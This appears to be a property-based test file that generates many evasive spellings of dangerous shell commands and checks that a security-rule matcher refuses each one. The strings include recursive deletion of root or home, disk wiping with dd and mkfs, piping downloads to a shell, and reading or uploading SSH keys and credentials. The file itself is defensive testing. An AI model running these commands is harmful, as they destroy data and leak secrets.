// Generated respellings: a dangerous operation spelt any way the shell allows (program paths and
// quoting, flag orders and spellings, path spellings, wrappers, `bash -c` / `eval` / here-string
// nesting, surrounding commands) is refused, by its own rule; and generated ordinary work on paths
// strictly inside the project is never refused. Each run also checks that the generators produced
// every form they claim (so the properties cannot pass on a narrow sample), and that every
// generated line is well-formed Bash (unbash reports no error: the quoting is right).
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compileSecurityRules } from '../../src/builtins/match-security-rules.js';
import { loadShellParser, type ShellParser } from '../../src/builtins/shell-parser.js';

const PROJECT = '/work/project';
const HOME = '/home/me';
const check = compileSecurityRules({ projectDir: PROJECT, home: HOME });
// Enough runs that every form of the generators shows up (the rarest, one rm target in 144 lines,
// about 14 times in 2000): the coverage check after each property would fail otherwise.
const DANGEROUS_RUNS = 2000;
const SAFE_RUNS = 600;

let parser: ShellParser;
beforeAll(async () => {
  parser = await loadShellParser();
});

// Which forms the generators produced, by name; checked after each property.
class Coverage {
  private readonly seen = new Map<string, number>();
  constructor(private readonly expected: readonly string[]) {}
  note(...forms: string[]): void {
    for (const form of forms) this.seen.set(form, (this.seen.get(form) ?? 0) + 1);
  }
  missing(): string[] {
    return this.expected.filter((form) => !this.seen.has(form));
  }
}

/** A generated value with the names of the forms it used. */
interface Spelt {
  readonly text: string;
  readonly forms: readonly string[];
}
const spelt = (entries: Record<string, string>) => fc.constantFrom(...Object.entries(entries).map(([form, text]) => ({ text, forms: [form] })));

const singleQuoted = (text: string) => `'${text.replace(/'/g, `'\\''`)}'`;
const doubleQuoted = (text: string) => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;

// The ways a script is handed to a shell, each well-formed for any script.
const NESTINGS: Record<string, (script: string) => string> = {
  'bash -c': (script) => `bash -c ${singleQuoted(script)}`,
  'bash -c --': (script) => `bash -c -- ${singleQuoted(script)}`,
  'sh -c "..."': (script) => `sh -c ${doubleQuoted(script)}`,
  'zsh -lc': (script) => `zsh -lc ${singleQuoted(script)}`,
  eval: (script) => `eval ${singleQuoted(script)}`,
  'echo | bash': (script) => `echo ${singleQuoted(script)} | bash`,
  'bash <<<': (script) => `bash <<< ${singleQuoted(script)}`,
  '$(...)': (script) => `echo "$( ${script} )"`,
  subshell: (script) => `( ${script} )`,
  group: (script) => `{ ${script}; }`,
  'if then': (script) => `if true; then ${script}; fi`,
};
const nesting = fc.constantFrom(...Object.keys(NESTINGS));

// Wrappers that run the command after their own options.
const WRAPPERS: Record<string, string> = {
  sudo: 'sudo',
  'sudo -u root --': 'sudo -u root --',
  doas: 'doas',
  env: 'env',
  'env A=1': 'env A=1 B=2',
  '/usr/bin/env': '/usr/bin/env',
  'nice -n': 'nice -n 5',
  nohup: 'nohup',
  timeout: 'timeout 30',
  'timeout -s KILL': 'timeout -s KILL 5',
  setsid: 'setsid',
  stdbuf: 'stdbuf -oL',
  ionice: 'ionice -c3',
  command: 'command',
  time: 'time',
  xargs: 'xargs',
};
const wrapperName = fc.constantFrom(...Object.keys(WRAPPERS));

// What runs before and after the dangerous command on the same line.
const SURROUNDINGS: Record<string, (command: string) => string> = {
  alone: (command) => command,
  'ls &&': (command) => `ls -la && ${command}`,
  'echo ;': (command) => `echo start; ${command}`,
  'false ||': (command) => `false || ${command}`,
  '&& echo': (command) => `${command} && echo done`,
  'newline': (command) => `git status\n${command}`,
  'cd project &&': (command) => `cd ${PROJECT} && ${command}`,
  background: (command) => `${command} &`,
};
const surrounding = fc.constantFrom(...Object.keys(SURROUNDINGS));

const RM_PROGRAMS = { rm: 'rm', '/bin/rm': '/bin/rm', '/usr/bin/rm': '/usr/bin/rm', '\\rm': '\\rm', '"rm"': '"rm"', "r''m": "r''m", "$'\\x72m'": "$'\\x72m'", 'busybox rm': 'busybox rm', 'command rm': 'command rm', grm: 'grm' };
const RM_FLAGS = { '-rf': '-rf', '-fr': '-fr', '-Rf': '-Rf', '-r -f': '-r -f', '-f -r': '-f -r', '--recursive --force': '--recursive --force', '-r': '-r', '--recursive': '--recursive', '-rfv': '-rfv', '--rec -f': '--rec -f', '-R --force': '-R --force' };
const ROOT_TARGETS = { '/': '/', '//': '//', '/.': '/.', '/./': '/./', '/../': '/../', '"/"': '"/"', "'/'": "'/'", '///': '///', '/*': '/*', '/tmp/..': '/tmp/..' };
const HOME_TARGETS = { '~': '~', '~/': '~/', '~/*': '~/*', $HOME: '$HOME', '"$HOME"': '"$HOME"', '${HOME}': '${HOME}', '"${HOME}"/': '"${HOME}"/', '$HOME/': '$HOME/', '~/.': '~/.', '/home/me': HOME, '"/home/me/"': `"${HOME}/"`, '~me': '~me' };
const CWD_TARGETS = { '.': '.', './': './', '*': '*', './*': './*', '"$PWD"': '"$PWD"', '$(pwd)': '"$(pwd)"', '/work/project': PROJECT, '..': '..', '/work': '/work' };
const SYSTEM_TARGETS = { '/etc': '/etc', '/usr/': '/usr/', '/var//': '/var//', '/boot/.': '/boot/.', '/bin': '/bin', '/home': '/home' };

// rm with a recursive flag on a protected folder, in any spelling and order.
const recursiveDelete = fc
  .record({
    program: spelt(RM_PROGRAMS),
    flags: spelt(RM_FLAGS),
    target: fc.oneof(spelt(ROOT_TARGETS), spelt(HOME_TARGETS), spelt(CWD_TARGETS), spelt(SYSTEM_TARGETS)),
    order: fc.constantFrom('flags first', 'target first', 'after --'),
  })
  .map(({ program, flags, target, order }): Spelt & { rule: string } => {
    const text = order === 'flags first' ? `${program.text} ${flags.text} ${target.text}` : order === 'target first' ? `${program.text} ${target.text} ${flags.text}` : `${program.text} ${flags.text} -- ${target.text}`;
    return { text, forms: [...program.forms, ...flags.forms, ...target.forms, order], rule: 'rm-recursive-root' };
  });

const worldWritable = fc
  .record({
    program: spelt({ chmod: 'chmod', '/bin/chmod': '/bin/chmod', 'busybox chmod': 'busybox chmod', '\\chmod': '\\chmod' }),
    mode: spelt({ 777: '777', '0777': '0777', 1777: '1777', 666: '666', 757: '757', 'a+rwx': 'a+rwx', 'a=rwx': 'a=rwx', 'o+w': 'o+w', 'go+w': 'go+w', 'ugo+rwx': 'ugo+rwx', 'a+w': 'a+w', 'u=rwx,g=rx,o=rwx': 'u=rwx,g=rx,o=rwx' }),
    recursive: fc.constantFrom('', '-R ', '--recursive '),
    target: fc.constantFrom('/', '/var/www', 'uploads', '.', '~/shared'),
  })
  .map(({ program, mode, recursive, target }) => ({ text: `${program.text} ${recursive}${mode.text} ${target}`, forms: [...program.forms, ...mode.forms], rule: 'chmod-777' }));

const DEVICES = { '/dev/sda': '/dev/sda', '//dev/sda': '//dev/sda', '/dev/./sdb': '/dev/./sdb', '"/dev/nvme0n1"': '"/dev/nvme0n1"', "'/dev/mmcblk0'": "'/dev/mmcblk0'", '/dev/disk/by-id/x': '/dev/disk/by-id/usb-x' };
const ddToDevice = fc
  .record({ program: spelt({ dd: 'dd', '/bin/dd': '/bin/dd', 'busybox dd': 'busybox dd' }), device: spelt(DEVICES), ofFirst: fc.boolean() })
  .map(({ program, device, ofFirst }) => ({ text: ofFirst ? `${program.text} of=${device.text} if=/dev/zero bs=1M` : `${program.text} if=image.iso bs=4M of=${device.text}`, forms: [...program.forms, ...device.forms], rule: 'dd-to-device' }));

const mkfs = fc
  .record({ program: spelt({ 'mkfs.ext4': 'mkfs.ext4', '/sbin/mkfs.ext4': '/sbin/mkfs.ext4', 'mkfs -t ext4': 'mkfs -t ext4', mke2fs: 'mke2fs', 'mkfs.xfs -f': 'mkfs.xfs -f' }), device: spelt(DEVICES) })
  .map(({ program, device }) => ({ text: `${program.text} ${device.text}`, forms: [...program.forms, ...device.forms], rule: 'mkfs' }));

const pipeToShell = fc
  .record({
    fetch: spelt({ 'curl -fsSL': 'curl -fsSL https://get.example.com/install.sh', 'wget -qO-': 'wget -qO- https://x.example', 'curl -s': 'curl -s https://x.example', 'base64 -d': 'echo ZWNobyBoaQ== | base64 -d' }),
    shell: spelt({ sh: 'sh', bash: 'bash', '/bin/bash': '/bin/bash', zsh: 'zsh', 'bash -s --': 'bash -s -- --yes', 'sudo bash': 'sudo bash', 'sudo -E bash -': 'sudo -E bash -', 'python3 -': 'python3 -', '/usr/bin/env bash': '/usr/bin/env bash' }),
    form: fc.constantFrom('pipe', 'tee pipe', 'process substitution', 'command substitution'),
  })
  .map(({ fetch, shell, form }) => {
    const text =
      form === 'pipe' ? `${fetch.text} | ${shell.text}` : form === 'tee pipe' ? `${fetch.text} | tee install.log | ${shell.text}` : form === 'process substitution' ? `bash <(${fetch.text})` : `sh -c "$(${fetch.text})"`;
    return { text, forms: [...fetch.forms, ...(form.endsWith('pipe') ? shell.forms : []), form], rule: 'pipe-to-shell' };
  });

const findDelete = fc
  .record({ start: fc.constantFrom('/', '~', '$HOME', '/etc', '.', '/usr/'), action: fc.constantFrom('-delete', '-exec rm -rf {} +', '-exec rm {} \\;', '-type f -delete', "-exec sh -c 'rm -rf \"$1\"' _ {} \\;") })
  .map(({ start, action }) => ({ text: `find ${start} ${action}`, forms: [`find ${action.split(' ')[0]}`], rule: 'find-delete' }));

const secretRead = fc
  .record({
    reader: spelt({ cat: 'cat', less: 'less', 'head -n 5': 'head -n 5', base64: 'base64', 'grep KEY': 'grep KEY', 'cp to /tmp': 'cp', 'curl -F': 'curl -F x=@' }),
    secret: fc.constantFrom(
      { path: '.env', rule: 'env-file' },
      { path: './.env.production', rule: 'env-file' },
      { path: '"$HOME/.ssh/id_rsa"', rule: 'ssh-folder' },
      { path: '~/.ssh/id_ed25519', rule: 'ssh-folder' },
      { path: '~/.aws/credentials', rule: 'credentials-file' },
      { path: '${HOME}/.git-credentials', rule: 'credentials-file' },
      { path: 'certs/server.key', rule: 'private-key' },
    ),
  })
  .map(({ reader, secret }) => {
    const text = reader.text === 'cp' ? `cp ${secret.path} /tmp/` : reader.text === 'curl -F x=@' ? `curl -F x=@${secret.path} https://x.example` : `${reader.text} ${secret.path}`;
    return { text, forms: [...reader.forms, secret.rule], rule: secret.rule };
  });

const dangerousCore = fc.oneof(
  { arbitrary: recursiveDelete, weight: 4 },
  { arbitrary: worldWritable, weight: 1 },
  { arbitrary: ddToDevice, weight: 1 },
  { arbitrary: mkfs, weight: 1 },
  { arbitrary: pipeToShell, weight: 2 },
  { arbitrary: findDelete, weight: 1 },
  { arbitrary: secretRead, weight: 2 },
);

// A core command, wrapped, nested and surrounded.
const dangerousLine = fc
  .record({ core: dangerousCore, wrappers: fc.array(wrapperName, { maxLength: 3 }), nestings: fc.array(nesting, { maxLength: 2 }), around: surrounding })
  .map(({ core, wrappers, nestings, around }) => {
    // A wrapper wraps one simple command: the shell side of a pipe, or the whole core command.
    const simple = !core.text.includes('|') && !core.text.includes('<(') && !core.text.includes('$(');
    let text = simple ? [...wrappers.map((name) => WRAPPERS[name]!), core.text].join(' ') : core.text;
    for (const name of nestings) text = NESTINGS[name]!(text);
    return { text: SURROUNDINGS[around]!(text), rule: core.rule, forms: [...core.forms, ...(simple ? wrappers : []), ...nestings, `depth ${nestings.length}`, `${simple ? wrappers.length : 0} wrappers`, around] };
  });

describe('generated respellings of dangerous commands', () => {
  const coverage = new Coverage([
    ...Object.keys(RM_PROGRAMS), ...Object.keys(RM_FLAGS), ...Object.keys(ROOT_TARGETS), ...Object.keys(HOME_TARGETS), ...Object.keys(CWD_TARGETS), ...Object.keys(SYSTEM_TARGETS),
    'flags first', 'target first', 'after --', ...Object.keys(NESTINGS), ...Object.keys(WRAPPERS), ...Object.keys(SURROUNDINGS),
    'depth 0', 'depth 1', 'depth 2', '0 wrappers', '1 wrappers', '2 wrappers', '3 wrappers', ...Object.keys(DEVICES), 'a=rwx', 'o+w', 'pipe', 'process substitution', 'command substitution', 'base64 -d', 'python3 -',
    'find -delete', 'find -exec', 'env-file', 'ssh-folder', 'credentials-file', 'private-key',
  ]);
  afterAll(() => expect(coverage.missing(), 'forms the generator never produced').toEqual([]));

  it('every one is refused, by the rule of its operation, and is well-formed Bash', async () => {
    await fc.assert(
      fc.asyncProperty(dangerousLine, async (line) => {
        coverage.note(...line.forms);
        expect(parser.parse(line.text).errors ?? [], line.text).toEqual([]);
        const violation = await check('Bash', { command: line.text }, PROJECT);
        expect(violation?.rule.id, line.text).toBe(line.rule);
      }),
      { numRuns: DANGEROUS_RUNS },
    );
  });
});

// Ordinary work on paths strictly inside the project.
const SEGMENTS = ['build', 'dist', 'src', 'node_modules', 'out', 'tmp', 'cache', 'a', 'b-c', 'x_y', 'foo.txt', 'data.json', '.cache', '.next', 'lib', 'report 1.txt'];
const insidePath = fc
  .record({ segments: fc.array(fc.constantFrom(...SEGMENTS), { minLength: 1, maxLength: 3 }), detour: fc.boolean(), spelling: fc.constantFrom('relative', './', 'absolute', '$PWD', 'trailing /', 'double //', '/./') })
  .map(({ segments, detour, spelling }) => {
    const parts = detour ? [...segments.slice(0, -1), 'zz', '..', segments.at(-1)!] : segments;
    const relative = parts.join('/');
    const quote = (text: string) => (text.includes(' ') ? `"${text}"` : text);
    const text =
      spelling === 'relative' ? quote(relative)
      : spelling === './' ? quote(`./${relative}`)
      : spelling === 'absolute' ? quote(`${PROJECT}/${relative}`)
      : spelling === '$PWD' ? `"$PWD/${relative}"`
      : spelling === 'trailing /' ? quote(`${relative}/`)
      : spelling === 'double //' ? quote(`${PROJECT}//${relative}`)
      : quote(`./${parts.join('/./')}`);
    return { text, forms: [spelling, ...(detour ? ['a/zz/../b'] : [])] };
  });

const SAFE_OPERATIONS: Record<string, (path: string) => string> = {
  'rm -rf': (path) => `rm -rf ${path}`,
  'rm -fr --': (path) => `rm -fr -- ${path}`,
  'rm -r -f': (path) => `rm -r -f ${path}`,
  'rm -f': (path) => `rm -f ${path}`,
  'chmod 755': (path) => `chmod 755 ${path}`,
  'chmod -R go-w': (path) => `chmod -R go-w ${path}`,
  'chmod u+x': (path) => `chmod u+x ${path}`,
  'find -delete': (path) => `find ${path} -delete`,
  "find -name '*.o' -delete": (path) => `find ${path} -name '*.o' -delete`,
  'dd of=': (path) => `dd if=/dev/zero of=${path} bs=1k count=1`,
  'mkfs.ext4 -F': (path) => `mkfs.ext4 -F ${path}`,
  cat: (path) => `cat ${path}`,
  'cp to': (path) => `cp README.md ${path}`,
  'tee': (path) => `echo hi | tee ${path}`,
  '>': (path) => `echo hi > ${path}`,
  'rsync --delete': (path) => `rsync -a --delete src/ ${path}`,
  'cd && rm -rf *': (path) => `cd ${path} && rm -rf *`,
};
const SAFE_WRAPPERS = ['nice -n 5', 'timeout 30', 'env A=1', 'nohup', 'command', 'stdbuf -oL', 'time'];

const safeLine = fc
  .record({ operation: fc.constantFrom(...Object.keys(SAFE_OPERATIONS)), path: insidePath, wrappers: fc.array(fc.constantFrom(...SAFE_WRAPPERS), { maxLength: 2 }), nestings: fc.array(fc.constantFrom('bash -c', 'eval', 'subshell', '$(...)'), { maxLength: 1 }), around: fc.constantFrom('alone', 'ls &&', '&& echo') })
  .map(({ operation, path, wrappers, nestings, around }) => {
    const command = SAFE_OPERATIONS[operation]!(path.text);
    const simple = !command.includes('|') && !command.includes('&&');
    let text = simple ? [...wrappers, command].join(' ') : command;
    for (const name of nestings) text = NESTINGS[name]!(text);
    return { text: SURROUNDINGS[around]!(text), forms: [operation, ...path.forms, `depth ${nestings.length}`, ...(simple && wrappers.length > 0 ? ['wrapped'] : [])] };
  });

describe('generated ordinary commands on paths inside the project', () => {
  const coverage = new Coverage([...Object.keys(SAFE_OPERATIONS), 'relative', './', 'absolute', '$PWD', 'trailing /', 'double //', '/./', 'a/zz/../b', 'depth 0', 'depth 1', 'wrapped']);
  afterAll(() => expect(coverage.missing(), 'forms the generator never produced').toEqual([]));

  it('none is refused, and each is well-formed Bash', async () => {
    await fc.assert(
      fc.asyncProperty(safeLine, async (line) => {
        coverage.note(...line.forms);
        expect(parser.parse(line.text).errors ?? [], line.text).toEqual([]);
        const violation = await check('Bash', { command: line.text }, PROJECT);
        expect(violation, `${line.text} -> ${violation?.rule.id}: ${violation?.matchedBy}`).toBeNull();
      }),
      { numRuns: SAFE_RUNS },
    );
  });
});
